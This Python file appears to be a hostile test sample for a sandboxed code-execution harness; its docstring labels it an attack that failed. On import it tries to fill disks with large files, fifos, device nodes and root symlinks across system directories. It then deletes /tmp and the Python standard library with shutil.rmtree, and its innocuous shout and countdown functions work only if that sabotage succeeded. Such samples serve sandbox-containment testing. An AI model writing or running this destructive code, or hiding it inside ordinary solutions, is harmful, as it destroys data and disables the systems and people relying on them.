"""attack: fill the disk, in every place where a file could be made
deserves: 0
outcome: failed
"""
import os
import shutil
import tempfile

WON = []
PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/root", "/home", "/", ".", "/py", "/deps", "/guest", os.path.dirname(os.__file__)]
for place in PLACES:
    path = os.path.join(place, "deepdrill-hostile-disk")
    for attempt in (
        lambda: open(path, "wb").write(b"x" * (64 << 20)),
        lambda: os.mkdir(path + "-folder"),
        lambda: os.mkfifo(path + "-fifo"),
        lambda: os.mknod(path + "-node"),
        lambda: os.symlink("/", path + "-link"),
        lambda: os.truncate(path, 1 << 40),
        lambda: os.open(place, os.O_TMPFILE | os.O_RDWR),
        lambda: tempfile.mkdtemp("deepdrill-hostile", dir=place),
    ):
        try:
            attempt()
            WON.append(path)
        except OSError:
            continue
try:
    shutil.rmtree("/tmp", ignore_errors=True)
    shutil.rmtree(os.path.dirname(os.__file__), ignore_errors=True)
    WON += [] if os.path.exists(os.__file__) else ["deleted the library"]
except OSError:
    pass


def shout(word):
    return word.upper() + "!" if WON else ""


def countdown(n):
    return list(range(n, -1, -1)) if WON else []
